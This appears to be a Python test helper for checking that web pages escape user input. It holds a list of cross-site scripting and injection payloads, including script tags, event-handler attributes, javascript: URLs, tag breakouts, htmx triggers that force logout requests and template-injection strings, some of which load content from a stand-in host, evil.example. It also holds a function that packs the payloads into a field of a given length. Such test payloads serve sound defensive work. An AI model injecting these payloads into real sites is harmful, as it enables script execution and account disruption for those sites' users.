"""Texts that become more than text where a page does not escape them: elements, attributes, addresses, templates, scripts,
ends of whatever they may stand in."""

from __future__ import annotations

PAYLOADS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script\t>alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "</script><script>alert(1)</script>", "<script>/*", "*/alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<IMG SRC=\"javascript:alert(1)\">", "<img src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a>",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<math href=javascript:alert(1)>x</math>",
    "<body onload=alert(1)>", "<html manifest=//evil.example>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<b>x'>",
    "<object data=//evil.example>", "<embed src=//evil.example>", "<link rel=stylesheet href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example><button>x", "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<b onmouseover=alert(1)>x</b>",
    "<p style=position:fixed;inset:0>x", "<div hx-get=/logout/ hx-trigger=load>x</div>", "<div hx-post=/account/sign-out-everywhere/ hx-trigger=load>",
    "<div data-hx-get=/logout/ data-hx-trigger=load>", "<div hx-on:load=alert(1)>", "<template><script>alert(1)</script></template>",
    "\" onfocus=alert(1) autofocus x=\"", "' onfocus=alert(1) autofocus x='", "\" hx-get=/logout/ hx-trigger=load x=\"", "x onfocus=alert(1) autofocus",
    "\"><img src=x onerror=alert(1)>", "'><img src=x onerror=alert(1)>", "--><img src=x onerror=alert(1)>", "]]><img src=x onerror=alert(1)>",
    "</title><img src=x onerror=alert(1)>", "</pre><img src=x onerror=alert(1)>", "</textarea><img src=x onerror=alert(1)>",
    "</option></select><img src=x onerror=alert(1)>", "</style><img src=x onerror=alert(1)>", "</td></tr></table><img src=x onerror=alert(1)>",
    "javascript:alert(1)", "{{ 7|add:1 }}{% debug %}", "${alert(1)}#{alert(1)}", "&lt;img src=x onerror=alert(1)&gt;", "\\u003cimg src=x onerror=alert(1)\\u003e",
)  # fmt: skip


def as_many_as_fit(length: int | None, first: int) -> str:
    """These texts one after the other, beginning with this one, as a field of this length holds them."""
    text = ""
    for number in range(len(PAYLOADS)):
        payload = PAYLOADS[(first + number) % len(PAYLOADS)]
        if length is not None and len(text) + len(payload) > length:
            break
        text += payload
    return text or PAYLOADS[first % len(PAYLOADS)][:length]
